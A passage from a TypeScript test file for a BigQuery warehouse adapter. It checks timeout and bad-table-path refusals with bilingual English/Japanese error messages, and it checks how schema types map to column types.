    expect(refusal).toMatchObject({
      warehouse: 'query',
      subject: 'backtest',
      reason: 'timeout',
      reasonParams: { seconds: 240, job: 'j' },
    });
    // Said by its reason code in either language, as the run records it (warehouse-run.ts).
    const error = {
      key: 'run.error.bigquery_query' as const,
      params: {
        step: 'backtest',
        reason: 'timeout',
        seconds: 240,
        job: 'j',
        message: 'no answer within 240 s (job j)',
      },
    };
    expect(runErrorText('en', error)).toBe(
      'BigQuery refused the query (backtest): no answer within 240 s (job j). Nothing was judged or changed.',
    );
    expect(runErrorText('ja', error)).toBe(
      'BigQuery がクエリ(backtest)を拒否しました: 240 秒以内に応答がありませんでした(ジョブ j)。何も判定・変更していません。',
    );
  });

  it('refuses a path that is not project.dataset.table by a reason code, said in either language', () => {
    (globalThis as Record<string, unknown>).BigQuery = scripted([], []).service;
    const w = bigQueryWarehouse('p')!;
    let refusal: unknown = null;
    try {
      w.table('crm.accounts');
    } catch (e) {
      refusal = e;
    }
    expect(refusal).toMatchObject({ warehouse: 'table', subject: 'crm.accounts', reason: 'not_a_path' });
    const error = {
      key: 'run.error.bigquery_table' as const,
      params: { table: 'crm.accounts', reason: 'not_a_path', message: 'not project.dataset.table' },
    };
    expect(runErrorText('en', error)).toContain('"crm.accounts" (not a project.dataset.table path)');
    expect(runErrorText('ja', error)).toContain(
      '"crm.accounts" を読めませんでした(project.dataset.table の形ではありません)',
    );
  });

  it('reads a schema into the compiler’s column types; none without the service', () => {
    expect(bigQueryWarehouse('p')).toBeNull();
    expect(
      sourceColumns([
        { name: 'a', type: 'STRING' },
        { name: 'b', type: 'INT64' },
        { name: 'c', type: 'FLOAT' },
        { name: 'd', type: 'BOOL' },
        { name: 'e', type: 'DATE' },
        { name: 'f', type: 'TIMESTAMP' },
        { name: 'g', type: 'BIGNUMERIC' },
        { name: 'h', type: 'DATETIME' },
        { name: 'i', type: 'STRING', mode: 'REPEATED' },
      ]),
    ).toEqual([
      { name: 'a', type: 'text' },
      { name: 'b', type: 'number' },
      { name: 'c', type: 'number' },
      { name: 'd', type: 'boolean' },
      { name: 'e', type: 'date' },
      { name: 'f', type: 'timestamp' },
      { name: 'g', type: 'number' },
    ]);
    expect(cellOf('1.0E7', 'FLOAT64')).toBe(1e7);
    expect(queryParameter({ name: 'p3', type: 'BOOL', value: false })).toEqual({
      name: 'p3',
      parameterType: { type: 'BOOL' },
      parameterValue: { value: 'false' },
    });
    (globalThis as Record<string, unknown>).BigQuery = { Tables: { get: () => ({ schema: { fields: [] } }) } };
    expect(() => bigQueryWarehouse('p')!.table('dataset.table')).toThrow(/not project\.dataset\.table/);
  });
});
